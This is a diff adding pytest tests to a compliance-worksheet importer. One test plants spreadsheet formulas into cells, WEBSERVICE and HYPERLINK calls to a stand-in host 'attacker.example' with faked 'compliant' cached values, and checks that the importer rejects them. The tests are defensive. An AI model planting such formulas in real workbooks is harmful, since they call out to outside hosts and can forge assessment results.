@@ -153,3 +153,33 @@ def test_template_command_writes_both_forms(tmp_path: Path, root: Path) -> None:
                       str(tmp_path / "x.yaml")]) == ExitCode.USAGE
     assert _dispatch(["attest", "template", "clean-l3", "--root", str(root), "--out",
                       str(tmp_path / "x.csv")]) == ExitCode.USAGE
+
+
+@pytest.mark.parametrize(("cell", "formula", "cached"), [
+    ("H2", '=IF(WEBSERVICE("http://attacker.example/x")="","符合","符合")', "符合"),
+    ("I2", '=HYPERLINK("http://attacker.example/","已核查")', "已核查"),
+])
+def test_a_formula_is_refused_not_its_cached_value_taken(tmp_path: Path, document: dict[str, object], cell: str,
+                                                         formula: str, cached: str) -> None:
+    """The workbook was read for cached values: a formula calling out imported as the assessor's 符合."""
+    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
+    book = load_workbook(xlsx)
+    book[worksheet.SHEET_ROWS][cell] = formula
+    book.save(xlsx)
+    with pytest.raises(UsageError) as caught:
+        worksheet.read_xlsx(xlsx, "ws.xlsx")
+    assert [(p.line, p.column) for p in caught.value.diagnostics] == [(2, ord(cell[0]) - ord("A") + 1)]
+    assert "formula" in caught.value.diagnostics[0].message
+
+
+def test_a_superscript_level_is_a_located_error(tmp_path: Path, document: dict[str, object]) -> None:
+    """'²' passed isdigit() and crashed int() (exit 3)."""
+    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
+    book = load_workbook(xlsx)
+    for row in book[worksheet.SHEET_INFO].iter_rows(min_row=2):
+        if row[0].value == "等级 level":
+            row[1].value = "²"
+    book.save(xlsx)
+    with pytest.raises(UsageError) as caught:
+        worksheet.read_xlsx(xlsx, "ws.xlsx")
+    assert "not a level" in caught.value.diagnostics[0].message
